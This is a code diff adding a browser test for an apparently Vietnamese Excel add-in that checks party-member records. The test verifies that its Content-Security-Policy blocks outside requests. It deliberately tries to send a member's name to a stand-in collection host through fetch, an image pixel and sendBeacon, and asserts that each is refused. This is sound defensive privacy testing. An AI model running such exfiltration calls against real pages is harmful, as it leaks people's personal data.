@@ -95,6 +95,71 @@ describeInBrowser('the task pane in Chromium', () => {
     await page.close();
   }, 120_000);
 
+  it('privacy: a check and a clear request nothing beyond localhost; the Content-Security-Policy refuses other origins and leaves Fluent UI its styles', async () => {
+    const host = await FakeExcelHost.fromXlsx(new Uint8Array((await build(example()).workbook.xlsx.writeBuffer()) as ArrayBuffer));
+    const snapshot = JSON.stringify(host.toSnapshot());
+    const flagged = 'L14';
+    const fillBefore = host.getFill('Danh sách đảng viên', flagged);
+    const page = await browser.newPage({ viewport: { width: 380, height: 900 } });
+    const requests: string[] = [];
+    page.on('request', (r) => requests.push(r.url()));
+    // Any other origin answers here, so a fetch that reaches the network layer would succeed: only the
+    // page's policy can make it fail.
+    const OUTSIDE = 'https://thu-thap.example.net';
+    let reachedOutside = 0;
+    await page.route(`${OUTSIDE}/**`, (route) => (reachedOutside++, route.fulfill({ status: 200, contentType: 'text/plain', headers: { 'access-control-allow-origin': '*' }, body: 'ok' })));
+    await page.route(HOSTED_OFFICE_JS, (route) => route.fulfill({ contentType: 'text/javascript; charset=utf-8', body: `${fakeBundle}\nwindow.__installFakeExcel(${snapshot});` }));
+    await page.addInitScript(() => {
+      const seen: { directive: string; blocked: string }[] = [];
+      (window as unknown as { __cspViolations: typeof seen }).__cspViolations = seen;
+      document.addEventListener('securitypolicyviolation', (e) => seen.push({ directive: e.effectiveDirective, blocked: e.blockedURI }));
+    });
+    await page.goto(`${url}/taskpane.html`);
+
+    const check = page.getByRole('button', { name: 'Kiểm tra', exact: true });
+    await check.waitFor();
+    await page.waitForFunction(() => !(document.querySelector('button[title^="Kiểm tra"]') as HTMLButtonElement | null)?.disabled);
+    await check.click();
+    await page.getByText('Kết quả', { exact: true }).waitFor({ timeout: 30_000 });
+    await page.getByRole('button', { name: 'Xoá đánh dấu', exact: true }).click();
+    await page.waitForFunction(([cell, fill]) => (window as unknown as { __fakeExcelHost: { getFill(s: string, a: string): string | null } }).__fakeExcelHost.getFill('Danh sách đảng viên', cell as string) === fill, [flagged, fillBefore]);
+
+    const policy = await page.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? '');
+    expect(policy).toMatch(/connect-src 'self'(;|$)/);
+    expect(policy).toMatch(/script-src 'self' https:\/\/appsforoffice\.microsoft\.com(;|$)/);
+    // Fluent UI (Griffel) inserts its rules at run time; under the policy they must still apply.
+    const styled = await page.evaluate(() => {
+      const button = document.querySelector('button[title^="Kiểm tra"]') as HTMLElement;
+      return { rules: [...document.styleSheets].reduce((n, s) => n + s.cssRules.length, 0), radius: getComputedStyle(button).borderTopLeftRadius };
+    });
+    expect(styled.rules).toBeGreaterThan(50);
+    expect(styled.radius).not.toBe('0px');
+    const during = await page.evaluate(() => (window as unknown as { __cspViolations: unknown[] }).__cspViolations.slice());
+    expect(during).toEqual([]);
+    expect(requests.filter((r) => !r.startsWith(url) && r !== HOSTED_OFFICE_JS && !r.startsWith('data:'))).toEqual([]);
+
+    // The policy is enforced, not only written: member data sent elsewhere by fetch, an image or a
+    // beacon is refused before it leaves the page.
+    const attempt = await page.evaluate(async (outside) => {
+      let fetched: string;
+      try {
+        fetched = await (await fetch(`${outside}/members?name=Nguy%E1%BB%85n`)).text();
+      } catch (err) {
+        fetched = `refused: ${(err as Error).name}`;
+      }
+      new Image().src = `${outside}/pixel.png?name=x`;
+      const beacon = navigator.sendBeacon(`${outside}/beacon`, 'x');
+      await new Promise((r) => setTimeout(r, 300));
+      return { fetched, beacon, violations: (window as unknown as { __cspViolations: { directive: string; blocked: string }[] }).__cspViolations.slice() };
+    }, OUTSIDE);
+    expect(attempt.fetched).toBe('refused: TypeError');
+    expect(attempt.violations.map((v) => v.directive).sort()).toEqual(['connect-src', 'connect-src', 'img-src']);
+    expect(attempt.violations.every((v) => v.blocked.startsWith(OUTSIDE))).toBe(true);
+    // (Chromium may still announce a refused image as a request; none was let through.)
+    expect(reachedOutside).toBe(0);
+    await page.close();
+  }, 120_000);
+
   it('dist/ is ready to upload: the manifest points at ADDIN_BASE_URL only and asks for no more than it needs', () => {
     expect(manifest).not.toMatch(/https?:\/\/localhost/);
     expect(manifest).toContain(`${DEPLOY_URL}/taskpane.html`);
